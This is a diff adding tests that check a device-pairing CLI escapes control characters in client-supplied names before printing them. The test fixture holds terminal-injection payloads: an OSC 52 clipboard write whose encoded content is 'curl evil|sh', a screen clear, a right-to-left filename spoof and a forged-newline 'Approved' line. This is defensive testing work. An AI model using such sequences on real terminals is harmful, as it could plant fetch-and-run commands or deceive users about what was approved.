@@ -140,6 +140,53 @@ describe("npm run devices -- list", () => {
   });
 });
 
+describe("client-controlled strings reach the terminal without control characters", () => {
+  /** Clipboard write (OSC 52), clear screen, carriage return, right-to-left override, C1 CSI, newline. */
+  const HOSTILE = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007Laptop\u001b[2J\rPhone\u202egnp.exe\u009b31m\nApproved";
+  const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+  const list = {
+    pending: [{ requestId: UUID, deviceId: "dev-new", displayName: HOSTILE, platform: `web${HOSTILE}`, clientId: HOSTILE, role: HOSTILE, remoteIp: "203.0.113.7", ts: 1_700_000_000_000 }],
+    paired: [{ deviceId: `dev-old${HOSTILE}`, displayName: HOSTILE, platform: HOSTILE, roles: [HOSTILE, "operator"], connected: true }],
+  };
+  const printedLines = (c: Captured) => [...c.out, ...c.err].join("\n").split("\n");
+
+  test("devices list: names, platforms, roles escaped; each row stays one line", async () => {
+    ssm.on(GetCommandInvocationCommand).resolves(invocation("Success", JSON.stringify(list)));
+    const c = testIo();
+    expect(await devicesMain(["list"], c.io)).toBe(0);
+    const text = c.out.join("\n");
+    expect(text).not.toMatch(CONTROLS);
+    expect(text).toContain("\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007Laptop\\u001b[2J\\u000dPhone\\u202egnp.exe\\u009b31m\\u000aApproved");
+    // The header, the request row, a blank line, the paired header and row, the paired device row.
+    expect(printedLines(c).filter((l) => l.includes(UUID))).toHaveLength(1);
+    expect(printedLines(c).filter((l) => l.includes("dev-old"))).toHaveLength(1);
+  });
+
+  test("devices list --json: still the host's JSON (same values), with the controls escaped", async () => {
+    ssm.on(GetCommandInvocationCommand).resolves(invocation("Success", JSON.stringify(list)));
+    const c = testIo();
+    expect(await devicesMain(["list", "--json"], c.io)).toBe(0);
+    expect(c.out.join("\n")).not.toMatch(CONTROLS);
+    expect(JSON.parse(c.out.join("\n"))).toEqual(list);
+  });
+
+  test("approve: the device name in the sentence is escaped", async () => {
+    ssm.on(GetCommandInvocationCommand).resolves(invocation("Success", JSON.stringify({ requestId: UUID, device: { displayName: HOSTILE } })));
+    const c = testIo();
+    expect(await devicesMain(["approve", UUID], c.io)).toBe(0);
+    expect(c.out.join("\n")).not.toMatch(CONTROLS);
+    expect(c.out.join("\n")).toMatch(/^Approved request .* \(device \\u001b\]52;.*\)\. The device's next connection succeeds\.$/);
+  });
+
+  test("a failure whose host output echoes a client string: the error message is escaped too", async () => {
+    ssm.on(GetCommandInvocationCommand).resolves(invocation("Failed", "", `device ${HOSTILE} is not allowed`, 1));
+    const c = testIo();
+    expect(await devicesMain(["approve", UUID], c.io)).toBe(1);
+    expect(c.err.join("\n")).toContain("The command failed on the host (exit 1).");
+    expect(c.err.join("\n")).not.toMatch(CONTROLS);
+  });
+});
+
 describe("npm run devices -- approve/reject", () => {
   test("approve sends the request id as the document parameter and reports the device", async () => {
     ssm.on(GetCommandInvocationCommand).resolves(invocation("Success", JSON.stringify({ requestId: UUID, device: { deviceId: "dev-new", displayName: "Laptop browser" } })));
